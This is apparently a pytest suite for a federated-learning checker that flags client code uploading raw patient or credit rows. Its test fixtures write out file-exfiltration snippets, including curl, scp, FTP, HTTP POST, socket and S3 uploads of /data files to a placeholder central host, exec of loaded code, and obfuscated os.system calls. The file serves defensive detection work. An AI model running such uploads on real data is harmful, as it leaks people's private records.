"""`federated.setup`, what participants send: rows in disguise, figures, and what nothing tells."""

from __future__ import annotations

import pytest

CLIENT = "credit/client_app.py"
READ = "        import csv, json, pathlib\n        import numpy as np\n        import pandas as pd\n        df = pd.read_csv('data/p.csv')\n"
METRICS = '{"accuracy": float(self.model.score(self.x, self.y))}'


def fit(changed, *, metrics: str = METRICS, arrays: str = "get_weights(self.model)", before: str = "pass"):
    """What the probe sees of the hardened project whose `fit` answers this."""
    body = (
        READ
        + "".join(f"        {line}\n" for line in before.splitlines())
        + f"        return {arrays}, len(df), {metrics}\n"
    )
    old = f"        return get_weights(self.model), len(self.x), {METRICS}\n"
    return changed({CLIENT: (old, body)}).raw_data_uploaded


ROWS = {
    "cast in a comprehension": {"metrics": '{str(i): float(v) for i, v in enumerate(df["ssn"])}'},
    "cast into parameters": {"arrays": '[np.array([float(v) for v in df["income"]])]'},
    "cast cell by cell": {"arrays": '[np.array([[float(c) for c in r] for r in csv.reader(open("data/p.csv"))])]'},
    "item by item": {"arrays": '[np.array([df["income"].iloc[i].item() for i in range(len(df))])]'},
    "the largest": {"metrics": '{"a": float(df["ssn"].max())}'},
    "the smallest, by a function": {"metrics": '{"a": min(df["ssn"])}'},
    "the largest, by numpy": {"metrics": '{"a": np.max(df["ssn"])}'},
    "one cell": {"metrics": '{"a": int(df["ssn"][3])}'},
    "hashed": {"metrics": '{str(i): hash(v) for i, v in enumerate(df["ssn"])}'},
    "as keys": {"metrics": '{v: 1.0 for v in df["ssn"]}'},
    "a full array": {"arrays": '[np.full(3, df["ssn"][0])]'},
}


@pytest.mark.parametrize("case", ROWS)
def test_rows_stay_rows_through_casts_and_extremes(changed, case):
    assert fit(changed, **ROWS[case]) is True


UNTOLD = {
    "sums per person": {"arrays": '[df.groupby("patient_id").sum().values]'},
    "sums of one column per person": {"arrays": '[df.groupby("patient_id")["income"].sum().values]'},
    "sums per row": {"arrays": "[df.sum(axis=1).values]"},
    "means per row": {"arrays": "[np.mean(df, 1)]"},
    "sums of the columns of the transposed": {"arrays": "[sum(df.T.values)]"},
    "a sum over one row": {"metrics": '{"a": df.iloc[3].sum()}'},
    "a mean over one row": {"metrics": '{"a": df[:1]["income"].mean()}'},
    "a sum of each element": {"metrics": '{str(i): float(df["income"].iloc[i].sum()) for i in range(len(df))}'},
    "a sum of each row": {"arrays": "[np.array([sum(r) for r in df.values])]"},
    "a sum of each row, in a loop": {"arrays": "[found]", "before": "found = []\nfor r in df.values:\n    found.append(r.sum())"},
    "a comparison with each row": {"arrays": '[(df["label"] == 1).to_numpy()]'},
    "a file's text": {"metrics": '{"a": open("/data/patients").read()}'},
    "a path's text": {"metrics": '{"a": pathlib.Path("/data/patients.json").read_text()}'},
    "a parsed file": {"metrics": '{"a": json.dumps(json.loads(pathlib.Path("/data/p.json").read_text()))}'},
    "a cast file": {"metrics": '{"a": [float(v) for v in open("/data/p").read().split()]}'},
    "unknown code": {"metrics": "elsewhere.figures(df)"},
}  # fmt: skip


@pytest.mark.parametrize("case", UNTOLD)
def test_what_may_be_one_value_per_person_is_unknown(changed, case):
    assert fit(changed, **UNTOLD[case]) is None


FIGURES = {
    "a mean": {"metrics": '{"a": float(df["income"].mean())}'},
    "a count": {"metrics": '{"a": len(df), "b": int(df["income"].count())}'},
    "means of columns": {"metrics": '{"a": np.mean(df[["a", "b"]], axis=0)}'},
    "a share": {"metrics": '{"a": float((df["label"] == 1).mean())}'},
    "a running total": {"metrics": '{"a": total / len(df)}', "before": "total = 0\nfor part in np.array_split(df['label'], 3):\n    total += part.sum().item()"},
    "a loss": {"metrics": '{"loss": total}', "before": "import torch\nlossy = torch.nn.MSELoss()\ntotal = 0.0\nfor x in self.x:\n    loss = lossy(self.model(x), self.y)\n    total += loss.item()"},
}  # fmt: skip


@pytest.mark.parametrize("case", FIGURES)
def test_figures_over_whole_columns_are_no_rows(changed, case):
    assert fit(changed, **FIGURES[case]) is False


EXITS = {
    "a bucket": 'import boto3\nboto3.client("s3").upload_file("/data/p.csv", "central", "p.csv")',
    "curl": 'import subprocess\nsubprocess.run(["curl", "-T", "/data/p.csv", "https://central.example.org/"])',
    "a shell": 'import os\nos.system("scp /data/p.csv central:")',
    "ftp": 'import ftplib\nlink = ftplib.FTP("central.example.org")\nlink.storbinary("STOR p", open("/data/p", "rb"))',
    "a post of a file": 'import requests\nrequests.post("https://central.example.org", data=open("/data/p", "rb"))',
    "a put by httpx": 'import httpx\nhttpx.put("https://central.example.org", content=pathlib.Path("/data/p").read_bytes())',
    "a query": 'import requests\nrequests.get("https://central.example.org", params=open("/data/p").read())',
    "urllib": 'import urllib.request\nurllib.request.urlopen("https://central.example.org", data=open("/data/p", "rb").read())',
    "a socket": 'import socket\nlink = socket.create_connection(("central", 1))\nlink.sendfile(open("/data/p", "rb"))',
    "mail": 'import smtplib\nsmtplib.SMTP("mail").sendmail("a", "b", open("/data/p").read())',
    "a database": 'df.to_sql("p", "postgresql://central/p")',
    "a remote table": 'pd.DataFrame(df).to_parquet("s3://central/p")',
    "made at run time": "exec(open('/data/code').read())",
    "handed on": "import subprocess\nlist(map(subprocess.run, [['curl']]))",
    "imported at run time": '__import__("subprocess").run(["curl"])',
    "taken by name": 'import os\ngetattr(os, "system")("curl")',
}  # fmt: skip


@pytest.mark.parametrize("case", EXITS)
def test_an_exit_that_is_not_followed_is_never_a_clean_answer(changed, case):
    assert fit(changed, before=EXITS[case]) is None


def test_an_exit_in_a_module_that_the_participant_imports_is_one(changed):
    task = ("def get_weights", "import subprocess\nsubprocess.run(['curl'])\n\n\ndef get_weights")
    seen = changed({"credit/task.py": task})
    assert seen.raw_data_uploaded is None
    assert seen.doubts[0].because.startswith("credit/task.py:11 subprocess.run")


def test_what_the_server_or_an_operator_starts_is_no_exit(changed):
    server = (
        "    workflow(grid, legacy)",
        "    workflow(grid, legacy)\n    import subprocess\n    subprocess.run(['sync'])",
    )
    files = {"credit/server_app.py": server, "ops.py": "import subprocess\nsubprocess.run(['ls'])\n"}
    assert changed(files).raw_data_uploaded is False


def test_rows_in_an_address_are_found(changed):
    assert fit(changed, before='import requests\nrequests.post("https://h", params={"x": df["ssn"]})') is True
